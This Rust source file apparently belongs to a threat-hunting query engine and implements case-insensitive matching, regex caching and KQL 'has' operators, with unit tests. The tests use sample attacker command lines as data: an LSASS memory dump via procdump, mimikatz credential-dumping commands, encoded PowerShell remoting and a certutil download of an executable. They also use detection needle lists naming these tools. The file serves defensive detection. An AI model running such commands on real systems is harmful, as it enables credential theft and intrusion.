//! Text matching for hunts, run in place and prepared once: the `lower_*` functions that
//! [`super::rewrite`] puts in place of comparisons with `lower(x)`, `regex_is_match` for `~`, `~*` and
//! `regexp_like` (the pattern compiled once per process), and KQL's `has` family (`kql_has`,
//! `kql_hasprefix`, `kql_hassuffix` and their `_cs` forms, and `kql_has_any`).

use std::sync::Arc;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use datafusion::arrow::array::BooleanArray;
use datafusion::arrow::datatypes::DataType;
use datafusion::common::{DataFusionError, Result, ScalarValue};
use datafusion::logical_expr::{ColumnarValue, ScalarUDF, Signature, Volatility};

use super::texts::{map_texts, test_texts, test_texts_ascii};
use super::udf::{Prepared, TextFunction, constant};
use crate::presence::Presence;

/// How `lower(value)` is compared with a constant (already lower case) by the `lower_*` functions.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LowerTest {
    Eq,
    StartsWith,
    EndsWith,
    Contains,
}

/// The functions that [`super::rewrite`] puts in place of `lower(x) = 'c'`, `lower(x) IN (…)`,
/// `starts_with(lower(x), 'c')`, `ends_with(…)`, `strpos(lower(x), 'c') > 0` and `lower(x) LIKE '%c%'`:
/// the same answers without lower-casing the column into a new array. An ASCII value (nearly all of
/// them) is compared ignoring ASCII case in place; any other value is lower-cased as `lower` does.
pub const LOWER_EQ: &str = "lower_eq";
pub const LOWER_STARTS_WITH: &str = "lower_starts_with";
pub const LOWER_ENDS_WITH: &str = "lower_ends_with";
pub const LOWER_CONTAINS: &str = "lower_contains";

/// Each test, its function's name, and whether it takes any number of constants.
const LOWER_TESTS: [(LowerTest, &str, bool); 4] = [
    (LowerTest::Eq, LOWER_EQ, true),
    (LowerTest::StartsWith, LOWER_STARTS_WITH, false),
    (LowerTest::EndsWith, LOWER_ENDS_WITH, false),
    (LowerTest::Contains, LOWER_CONTAINS, false),
];

/// `lower_eq(x, 'a', 'b', …)`: `lower(x) IN ('a', 'b', …)` (the constants lower case); the others
/// `lower_starts_with(x, 'c')`, `lower_ends_with(x, 'c')`, `lower_contains(x, 'c')`.
pub fn lower_test(test: LowerTest) -> ScalarUDF {
    fn body(name: &str, args: &[ColumnarValue], rows: usize) -> Result<ColumnarValue> {
        let (test, _, _) = *LOWER_TESTS
            .iter()
            .find(|(_, n, _)| *n == name)
            .expect("a lower_* function");
        let mut constants = Vec::with_capacity(args.len() - 1);
        for a in &args[1..] {
            match constant(a) {
                Some(Some(c)) => constants.push(c),
                // As `lower(x) = NULL`: NULL whatever x is.
                Some(None) => return Ok(ColumnarValue::Scalar(ScalarValue::Boolean(None))),
                None => {
                    return Err(DataFusionError::Execution(format!(
                        "{name}: the values compared with must be constants"
                    )));
                }
            }
        }
        let matcher = LowerMatcher::new(test, &constants);
        let values = args[0].to_array(rows)?;
        let result = test_texts_ascii(&values, None, |v, ascii| matcher.matches(v, ascii))?;
        Ok(ColumnarValue::Array(Arc::new(result)))
    }
    let (_, name, variadic) = *LOWER_TESTS
        .iter()
        .find(|(t, _, _)| *t == test)
        .expect("every test is named");
    ScalarUDF::from(TextFunction {
        name,
        arity: 2,
        variadic,
        returns: DataType::Boolean,
        signature: Signature::user_defined(Volatility::Immutable),
        body,
    })
}

/// One `lower_*` test against its constants, prepared once per batch.
pub struct LowerMatcher<'a> {
    test: LowerTest,
    constants: Vec<&'a str>,
    /// `Contains` of ASCII values: the constants found ignoring ASCII case.
    finder: Option<Arc<ContainsFinder>>,
}

/// `Contains` ignoring ASCII case: with SIMD where it can be (see [`Presence`]), else an automaton.
enum ContainsFinder {
    Simd(Presence),
    Automaton(AhoCorasick),
}

impl<'a> LowerMatcher<'a> {
    /// `constants` must be lower case already (`c == c.to_lowercase()`): the rewrite only makes
    /// these calls for such constants.
    pub fn new(test: LowerTest, constants: &[&'a str]) -> LowerMatcher<'a> {
        static FINDERS: Prepared<Vec<String>, ContainsFinder> = Prepared::new();
        let finder = (test == LowerTest::Contains).then(|| {
            let key = constants.iter().map(|c| c.to_string()).collect();
            FINDERS
                .get(key, || {
                    Ok(match Presence::new(constants, true) {
                        Some(simd) => ContainsFinder::Simd(simd),
                        None => ContainsFinder::Automaton(
                            AhoCorasickBuilder::new()
                                .ascii_case_insensitive(true)
                                .match_kind(MatchKind::LeftmostFirst)
                                .build(constants)
                                .expect("literal needles build"),
                        ),
                    })
                })
                .expect("infallible")
        });
        LowerMatcher {
            test,
            constants: constants.to_vec(),
            finder,
        }
    }

    /// Whether `lower(value)` passes the test against any of the constants; `ascii` tells that
    /// `value` is known to be ASCII (`false`: unknown, checked here).
    pub fn matches(&self, value: &str, ascii: bool) -> bool {
        if ascii || value.is_ascii() {
            // `lower` of an ASCII value is its ASCII lower case; the constants are lower case, so
            // comparing ignoring ASCII case is comparing with `lower(value)`. (A constant with a
            // non-ASCII character never equals ASCII bytes, as it never equals their lower case.)
            let h = value.as_bytes();
            return match self.test {
                LowerTest::Eq => self
                    .constants
                    .iter()
                    .any(|c| c.len() == h.len() && h.eq_ignore_ascii_case(c.as_bytes())),
                LowerTest::StartsWith => self
                    .constants
                    .iter()
                    .any(|c| h.len() >= c.len() && h[..c.len()].eq_ignore_ascii_case(c.as_bytes())),
                LowerTest::EndsWith => self.constants.iter().any(|c| {
                    h.len() >= c.len() && h[h.len() - c.len()..].eq_ignore_ascii_case(c.as_bytes())
                }),
                LowerTest::Contains => match self.finder.as_deref() {
                    Some(ContainsFinder::Simd(simd)) => simd.holds(h),
                    Some(ContainsFinder::Automaton(automaton)) => automaton.is_match(value),
                    None => false,
                },
            };
        }
        let lower = value.to_lowercase();
        self.constants.iter().any(|c| match self.test {
            LowerTest::Eq => lower == *c,
            LowerTest::StartsWith => lower.starts_with(c),
            LowerTest::EndsWith => lower.ends_with(c),
            LowerTest::Contains => lower.contains(c),
        })
    }
}

/// `regex_is_match(x, 'pattern', 'flags')`: what `x ~ 'pattern'` (flags `''`) and `x ~* 'pattern'`
/// (flags `'i'`) answer, with the pattern compiled once per process instead of once per batch (the
/// arrow kernel behind `~`, `~*` and `regexp_like` compiles it on every call; a hunt's regex can take
/// longer to compile than to run over a batch). The same `regex` crate and syntax; NULL for NULL.
pub const REGEX_IS_MATCH: &str = "regex_is_match";

/// The compiled regex for a pattern (see [`Prepared`]).
pub fn cached_regex(pattern: &str, case_insensitive: bool) -> Result<Arc<regex::Regex>> {
    static CACHE: Prepared<(String, bool), regex::Regex> = Prepared::new();
    CACHE.get((pattern.to_string(), case_insensitive), || {
        regex::RegexBuilder::new(pattern)
            .case_insensitive(case_insensitive)
            .build()
            .map_err(|e| DataFusionError::Execution(format!("regular expression `{pattern}`: {e}")))
    })
}

/// See [`REGEX_IS_MATCH`].
pub fn regex_is_match() -> ScalarUDF {
    TextFunction::udf(REGEX_IS_MATCH, 3, DataType::Boolean, |name, args, rows| {
        let (pattern, flags) = match (constant(&args[1]), constant(&args[2])) {
            (Some(Some(p)), Some(Some(f))) => (p, f),
            (Some(None), _) | (_, Some(None)) => {
                return Ok(ColumnarValue::Scalar(ScalarValue::Boolean(None)));
            }
            _ => {
                return Err(DataFusionError::Execution(format!(
                    "{name}: the pattern and the flags must be constants"
                )));
            }
        };
        let case_insensitive = match flags {
            "" => false,
            "i" => true,
            other => {
                return Err(DataFusionError::Execution(format!(
                    "{name}: flags are '' or 'i', not '{other}'"
                )));
            }
        };
        let regex = cached_regex(pattern, case_insensitive)?;
        let values = args[0].to_array(rows)?;
        let result = test_texts(&values, None, |v| regex.is_match(v))?;
        Ok(ColumnarValue::Array(Arc::new(result)))
    })
}

/// Whether `needle` occurs in `hay` as whole terms: KQL's `has`. A term is a maximal run of ASCII
/// letters and digits; the match must start and end on term boundaries where the needle itself starts
/// or ends with a letter or digit (`has "-ComputerName"` matches `x -ComputerName y`).
pub fn has_term(hay: &str, needle: &str, case_sensitive: bool) -> bool {
    term_match(hay, needle, case_sensitive, Term::Whole)
}

/// Which term boundaries a match needs: both (`has`), the start (`hasprefix`) or the end (`hassuffix`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Term {
    Whole,
    Prefix,
    Suffix,
}

/// Whether `needle` occurs in `hay` on the term boundaries `term` asks for (see [`has_term`]).
pub fn term_match(hay: &str, needle: &str, case_sensitive: bool, term: Term) -> bool {
    TermFinder::new(needle, case_sensitive, term).matches(hay)
}

/// Needles prepared once for [`term_match`] over many values: every occurrence of each (overlapping
/// ones too) is a candidate, ASCII letters compared without case unless `case_sensitive`. A value
/// matches when some needle occurs as a term.
pub struct TermFinder {
    /// `None`: a needle is empty, which every value matches.
    finder: Option<AhoCorasick>,
    /// Per needle (the automaton's pattern ids): its length, and whether it starts / ends with a word
    /// character (then that end needs a term boundary).
    needles: Vec<(usize, bool, bool)>,
    term: Term,
    /// Whether a value holds some needle at all, found with SIMD before a case-insensitive automaton
    /// looks for terms: most values hold none (see [`Presence`]).
    presence: Option<Presence>,
}

fn word(b: u8) -> bool {
    b.is_ascii_alphanumeric()
}

impl TermFinder {
    pub fn new(needle: &str, case_sensitive: bool, term: Term) -> TermFinder {
        TermFinder::any(&[needle], case_sensitive, term)
    }

    /// Any of `needles` (none: no value matches), all found in one pass over a value.
    pub fn any<S: AsRef<str>>(needles: &[S], case_sensitive: bool, term: Term) -> TermFinder {
        let bytes: Vec<&[u8]> = needles.iter().map(|n| n.as_ref().as_bytes()).collect();
        TermFinder {
            // Matching an empty needle is trivially true; no automaton for it.
            finder: (!bytes.iter().any(|n| n.is_empty())).then(|| {
                AhoCorasickBuilder::new()
                    .ascii_case_insensitive(!case_sensitive)
                    .match_kind(MatchKind::Standard)
                    .build(&bytes)
                    .expect("literal needles build")
            }),
            needles: bytes
                .iter()
                .map(|n| {
                    (
                        n.len(),
                        n.first().is_some_and(|&b| word(b)),
                        n.last().is_some_and(|&b| word(b)),
                    )
                })
                .collect(),
            term,
            // Case-sensitive needles have aho-corasick's own SIMD prefilter.
            presence: (!case_sensitive)
                .then(|| Presence::new(needles, true))
                .flatten(),
        }
    }

    pub fn matches(&self, hay: &str) -> bool {
        let Some(finder) = &self.finder else {
            return true;
        };
        let h = hay.as_bytes();
        if self.presence.as_ref().is_some_and(|p| !p.holds(h)) {
            return false;
        }
        finder.find_overlapping_iter(hay).any(|m| {
            let (len, first, last) = self.needles[m.pattern().as_usize()];
            let (i, end) = (m.start(), m.start() + len);
            let starts = i == 0 || !first || !word(h[i - 1]);
            let ends = end == h.len() || !last || !word(h[end]);
            match self.term {
                Term::Whole => starts && ends,
                Term::Prefix => starts,
                Term::Suffix => ends,
            }
        })
    }
}

/// `kql_has(hay, needle)` / `kql_has_cs(hay, needle)`: KQL's `has` / `has_cs` (see [`has_term`]). A NULL
/// haystack is KQL's empty string: no term.
pub fn kql_has(case_sensitive: bool) -> ScalarUDF {
    kql_term(Term::Whole, case_sensitive)
}

/// Each `has` function: its terms, whether it is case-sensitive, its name.
const KQL_TERMS: [(Term, bool, &str); 6] = {
    use crate::kql::*;
    [
        (Term::Whole, false, KQL_HAS),
        (Term::Whole, true, KQL_HAS_CS),
        (Term::Prefix, false, KQL_HASPREFIX),
        (Term::Prefix, true, KQL_HASPREFIX_CS),
        (Term::Suffix, false, KQL_HASSUFFIX),
        (Term::Suffix, true, KQL_HASSUFFIX_CS),
    ]
};

/// The finder for a needle (see [`Prepared`]).
fn term_finder(needle: &str, case_sensitive: bool, term: Term) -> Result<Arc<TermFinder>> {
    any_term_finder(vec![needle.to_string()], case_sensitive, term)
}

/// The finder for any of `needles` (see [`Prepared`]).
fn any_term_finder(
    needles: Vec<String>,
    case_sensitive: bool,
    term: Term,
) -> Result<Arc<TermFinder>> {
    static FINDERS: Prepared<(Vec<String>, bool, Term), TermFinder> = Prepared::new();
    FINDERS.get((needles.clone(), case_sensitive, term), || {
        Ok(TermFinder::any(&needles, case_sensitive, term))
    })
}

/// `kql_has`, `kql_hasprefix`, `kql_hassuffix` and their `_cs` forms (see [`term_match`]).
pub fn kql_term(term: Term, case_sensitive: bool) -> ScalarUDF {
    fn body(name: &str, args: &[ColumnarValue], rows: usize) -> Result<ColumnarValue> {
        let (term, case_sensitive, _) = *KQL_TERMS
            .iter()
            .find(|(_, _, n)| *n == name)
            .expect("a kql_has* function");
        let hay = args[0].to_array(rows)?;
        let result: BooleanArray = match constant(&args[1]) {
            // A NULL needle: NULL whatever the haystack.
            Some(None) => return Ok(ColumnarValue::Scalar(ScalarValue::Boolean(None))),
            Some(Some(needle)) => {
                let finder = term_finder(needle, case_sensitive, term)?;
                test_texts(&hay, Some(finder.matches("")), |h| finder.matches(h))?
            }
            None => {
                let needles: Vec<Option<Arc<TermFinder>>> =
                    map_texts(&args[1].to_array(rows)?, |n| {
                        n.map(|n| term_finder(n, case_sensitive, term)).transpose()
                    })
                    .and_then(|found: Vec<Result<_>>| found.into_iter().collect())?;
                let mut row = 0;
                map_texts(&hay, |h| {
                    let finder = &needles[row];
                    row += 1;
                    finder.as_ref().map(|f| f.matches(h.unwrap_or("")))
                })?
            }
        };
        Ok(ColumnarValue::Array(Arc::new(result)))
    }
    let (_, _, name) = *KQL_TERMS
        .iter()
        .find(|(t, cs, _)| *t == term && *cs == case_sensitive)
        .expect("every form is named");
    TextFunction::udf(name, 2, DataType::Boolean, body)
}

/// `kql_has_any(hay, 'a', 'b', …)`: KQL's `has_any` over constant needles — some needle is a whole
/// term of `hay`, as `kql_has(hay, 'a') OR kql_has(hay, 'b') OR …` answers, in one pass over each value
/// instead of one per needle. A NULL haystack has no term; a NULL needle is what it is in that OR: the
/// answer is NULL where no other needle matches.
pub fn kql_has_any() -> ScalarUDF {
    fn body(name: &str, args: &[ColumnarValue], rows: usize) -> Result<ColumnarValue> {
        let mut needles = Vec::with_capacity(args.len() - 1);
        let mut null = false;
        for a in &args[1..] {
            match constant(a) {
                Some(Some(n)) => needles.push(n.to_string()),
                Some(None) => null = true,
                None => {
                    return Err(DataFusionError::Execution(format!(
                        "{name}: the needles must be constants"
                    )));
                }
            }
        }
        let finder = any_term_finder(needles, false, Term::Whole)?;
        let hay = args[0].to_array(rows)?;
        let result = test_texts(&hay, Some(finder.matches("")), |h| finder.matches(h))?;
        let result = if null {
            result.iter().map(|r| r.filter(|&m| m)).collect()
        } else {
            result
        };
        Ok(ColumnarValue::Array(Arc::new(result)))
    }
    ScalarUDF::from(TextFunction {
        name: crate::kql::KQL_HAS_ANY,
        arity: 2,
        variadic: true,
        returns: DataType::Boolean,
        signature: Signature::user_defined(Volatility::Immutable),
        body,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_simd_pre_tests_change_no_answer() {
        let values = [
            "",
            "lsass",
            "procdump64.exe -ma LSASS.exe C:\\t\\l.dmp",
            "powershell -ENC SQBFAFgA; Invoke-Command -ComputerName FS01",
            "xlsassx mimikatzz sekurlsa::logonpasswords",
            "CERTUTIL -urlcache -f hTTp://x/y.exe",
            "été ÉTÉ lsass",
        ];
        let sets: [&[&str]; 4] = [
            &["lsass"],
            &[
                "procdump",
                "procdump64",
                "mimikatz",
                "sekurlsa",
                "lsadump",
                "MiniDump",
            ],
            &["Invoke-Command", "Enter-PSSession", "-ComputerName"],
            &["http", "://", "ÉTÉ"],
        ];
        for needles in sets {
            for term in [Term::Whole, Term::Prefix, Term::Suffix] {
                let with = TermFinder::any(needles, false, term);
                assert!(with.presence.is_some() || !crate::presence::simd());
                let without = TermFinder {
                    presence: None,
                    ..TermFinder::any(needles, false, term)
                };
                for value in values {
                    assert_eq!(
                        with.matches(value),
                        without.matches(value),
                        "{value:?} against {needles:?} ({term:?})"
                    );
                }
            }
            // `lower_contains`: the SIMD answer against the automaton's.
            let lowered: Vec<String> = needles.iter().map(|n| n.to_lowercase()).collect();
            let lowered: Vec<&str> = lowered.iter().map(String::as_str).collect();
            let simd = LowerMatcher::new(LowerTest::Contains, &lowered);
            assert!(
                matches!(simd.finder.as_deref(), Some(ContainsFinder::Simd(_)))
                    || !crate::presence::simd()
            );
            let automaton = LowerMatcher {
                finder: Some(Arc::new(ContainsFinder::Automaton(
                    AhoCorasickBuilder::new()
                        .ascii_case_insensitive(true)
                        .match_kind(MatchKind::LeftmostFirst)
                        .build(&lowered)
                        .unwrap(),
                ))),
                ..LowerMatcher::new(LowerTest::Contains, &lowered)
            };
            for value in values {
                assert_eq!(
                    simd.matches(value, false),
                    automaton.matches(value, false),
                    "{value:?} contains any of {lowered:?}"
                );
            }
        }
        // Short needles keep the automaton alone.
        assert!(
            TermFinder::any(&["-e", "-enc"], false, Term::Whole)
                .presence
                .is_none()
        );
        assert!(matches!(
            LowerMatcher::new(LowerTest::Contains, &["-e"])
                .finder
                .as_deref(),
            Some(ContainsFinder::Automaton(_))
        ));
    }

    #[test]
    fn every_occurrence_of_a_needle_is_a_candidate_term() {
        // The first occurrence (at 1) is inside the term `xab`; the one overlapping it, at 4, is whole.
        assert!(has_term("xab-ab-ab", "ab-ab", false));
        assert!(!has_term("aab-aab", "ab-aab", false));
        assert!(has_term("x.AB.ab.y", "ab.ab", false));
        assert!(!has_term("x.AB.ab.y", "ab.ab", true));
        assert!(term_match("anything", "", true, Term::Whole));
    }

    #[test]
    fn hasprefix_and_hassuffix_match_the_start_or_end_of_a_term() {
        assert!(term_match("North America", "amer", false, Term::Prefix));
        assert!(!term_match("North America", "meric", false, Term::Prefix));
        assert!(term_match("North America", "rica", false, Term::Suffix));
        assert!(!term_match("North America", "amer", false, Term::Suffix));
        assert!(term_match("cmd.exe /c whoami", "who", false, Term::Prefix));
        assert!(!term_match("cmd.exe /c whoami", "WHO", true, Term::Prefix));
    }

    #[test]
    fn has_matches_whole_terms_case_insensitively() {
        assert!(has_term("North America", "america", false));
        assert!(!has_term("North America", "meric", false));
        assert!(has_term("North America", "America", false));
        assert!(has_term("a -ComputerName FS01", "-computername", false));
        assert!(has_term("Invoke-Command -x", "invoke-command", false));
        assert!(!has_term("xInvoke-Command", "Invoke-Command", false));
        assert!(!has_term("North America", "america", true));
        assert!(has_term("ad67d136-c1db-4f9f", "c1db", false));
        assert!(!has_term("ad67d136-c1db-4f9f", "c1d", false));
    }
}
